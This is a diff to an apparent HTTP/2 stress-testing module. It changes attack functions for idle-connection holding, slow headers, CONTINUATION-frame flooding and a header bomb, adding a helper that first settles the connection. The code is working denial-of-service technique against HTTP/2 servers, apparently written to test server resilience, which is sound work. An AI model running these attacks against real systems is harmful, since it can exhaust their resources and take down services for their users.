@@ -37,7 +37,8 @@ def idle(place: Place, *, greets: bool) -> Attack:
     """Connections on which nothing happens, with or without HTTP/2's first words."""
 
     def attack(target: Target, tally: Tally) -> None:
-        ways.hold(tally, lambda _: connect(place(target), greets=greets), target.count(3000))
+        # Without the first words even an answer to SETTINGS would be one too many.
+        ways.hold(tally, lambda _: connect(place(target), greets=greets), target.count(3000), reads=greets)
 
     return attack
 
@@ -73,14 +74,21 @@ def slow_headers(target: Target, tally: Tally) -> None:
     first = call_fields(SEND_UNARY_METHOD) + _literal(b"\0", b"x-slow", 8000)
 
     def open_one(_: int) -> Connection:
-        connection = connect(target.callers)
+        connection = _settled(target)
         connection.send(frame(HEADERS, 0, connection.reserve(), first))
         return connection
 
     def tend(connection: Connection) -> None:
         connection.send(frame(CONTINUATION, 0, 1, b"s"))
 
-    ways.hold(tally, open_one, target.count(600), tend=tend)
+    ways.hold(tally, open_one, target.count(600), reads=False, tend=tend)
+
+
+def _settled(target: Target) -> Connection:
+    """A connection whose SETTINGS are answered: between the frames of a header block no other may come."""
+    connection = connect(target.callers)
+    connection.pump(1.0)
+    return connection
 
 
 def continuation_flood(target: Target, tally: Tally) -> None:
@@ -90,7 +98,7 @@ def continuation_flood(target: Target, tally: Tally) -> None:
     field = frame(CONTINUATION, 0, 1, begun + b"j" * 16373)
 
     def open_one() -> Connection:
-        connection = connect(target.callers)
+        connection = _settled(target)
         connection.send(frame(HEADERS, 0, connection.reserve(), block))
         return connection
 
@@ -98,7 +106,7 @@ def continuation_flood(target: Target, tally: Tally) -> None:
         connection.send(field)
         return 1
 
-    ways.flood(tally, open_one, step, 4)
+    ways.flood(tally, open_one, step, 4, reads=False)
 
 
 def header_bomb(target: Target, tally: Tally) -> None:
